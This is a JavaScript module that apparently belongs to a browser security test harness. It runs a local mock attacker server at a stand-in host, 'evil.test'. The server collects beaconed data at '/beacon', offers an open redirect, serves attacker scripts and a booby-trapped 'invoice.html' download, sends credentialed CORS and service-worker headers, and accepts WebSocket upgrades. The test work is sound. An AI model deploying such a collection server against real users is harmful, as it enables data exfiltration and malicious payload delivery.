// The server of the attacker, with its own names. It responds to everything, to prove that the ways work without protection.
import { createHash } from "node:crypto";
import { createServer } from "node:http";
import { files, payload } from "./sweep_plant.mjs";
import { pages } from "./sweep_ways.mjs";

const types = { ".html": "text/html", ".svg": "image/svg+xml", ".js": "text/javascript", ".css": "text/css" };

// listen starts the server and returns it. lines collects what scripts report.
export async function listen(lines) {
  let all = {};
  let script = "";
  const light = `console.log(["SWEEP", "ran", self.origin, location.href, "control"].join(" | "))`;
  let evil = "";
  const server = createServer(async (req, res) => {
    const url = new URL(req.url, "http://evil");
    const head = { "Access-Control-Allow-Origin": req.headers.origin ?? "*", "Access-Control-Allow-Credentials": "true", "Cache-Control": "no-store" };
    const reply = (type, body, more = {}) => res.writeHead(200, { ...head, "Content-Type": type, ...more }).end(body);
    let body = "";
    for await (const part of req) body += part;
    const [target, method] = [url.searchParams.get("url"), url.searchParams.get("method")];
    if (url.pathname === "/beacon") { lines.push(body); return reply("text/plain", "ok"); }
    if (url.pathname === "/to") return res.writeHead(302, { ...head, Location: target }).end();
    if (url.pathname === "/events") return reply("text/event-stream", "data: x\n\n");
    if (url.pathname === "/p.js") return reply("text/javascript", req.headers.host.startsWith("weak") ? light : script);
    if (url.pathname === "/attack.html") return reply("text/html", `<!doctype html><script>${light}</script>`);
    if (url.pathname === "/picture.svg") return reply("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>`);
    if (url.pathname === "/style.css") return reply("text/css", "x {}");
    if (url.pathname === "/download") return reply("text/html", all["Downloads/invoice.html"], { "Content-Disposition": 'attachment; filename="invoice.html"' });
    const direct = new URL(`http://${req.headers.host}`).port === String(req.socket.localPort); // not through a preview
    if (direct && pages[url.pathname]) return reply("text/html", pages[url.pathname](target, method));
    // Like a web application of another user: the page of the attacker at any path.
    const type = types[url.pathname.slice(url.pathname.lastIndexOf("."))] ?? "text/html";
    return reply(type, type === "text/javascript" ? script : all["Downloads/invoice" + (type === "image/svg+xml" ? ".svg" : ".html")], { "Service-Worker-Allowed": "/" });
  });
  server.on("upgrade", (req, socket) => {
    const accept = createHash("sha1").update(req.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64");
    socket.on("error", () => {});
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  });
  await new Promise((done) => { server.listen(0, "127.0.0.1", done); });
  const { port } = server.address();
  evil = `http://evil.test:${port}`;
  return {
    port, evil,
    // arm sets the targets of the attacker's scripts.
    arm: (aims) => { all = files(evil, aims); script = payload(evil, aims); return all; },
  };
}
